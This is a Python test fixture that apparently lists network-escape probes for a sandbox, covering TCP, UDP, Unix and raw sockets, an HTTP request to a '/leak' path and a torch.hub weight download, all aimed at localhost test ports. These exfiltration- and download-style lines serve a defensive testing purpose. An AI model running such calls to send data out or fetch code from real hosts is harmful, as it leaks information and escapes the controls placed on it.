"""The network: telling somebody, or asking."""

from tests.hostile.attack import Attack

ATTACKS = (
    Attack(
        "tcp",
        "init",
        "socket.create_connection(('127.0.0.1', C['tcp'])).sendall(b'leak')",
        harms_when_weak=True,
    ),
    Attack(
        "udp",
        "training",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', C['udp']))",
        harms_when_weak=True,
    ),
    Attack(
        "abstract_unix_socket",
        "evaluation",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', C['abstract'])",
        harms_when_weak=True,
    ),
    Attack(
        "unix_socket_file",
        "setup",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', C['unix'])",
    ),
    Attack("listen", "init", "socket.create_server(('127.0.0.1', 0))"),
    Attack("netlink", "init", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)"),
    Attack("raw_packets", "init", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)"),
    Attack(
        "http",
        "import",
        """
        import urllib.request
        urllib.request.urlopen(f"http://127.0.0.1:{C['tcp']}/leak")
        """,
    ),
    Attack(
        "download_weights",
        "init",
        "torch.hub.load_state_dict_from_url(f\"http://127.0.0.1:{C['tcp']}/w.pth\", '/tmp')",
    ),
    Attack(
        "system_call_socket",
        "evaluation",
        "call('socket', 2, 1, 0)",
    ),
)
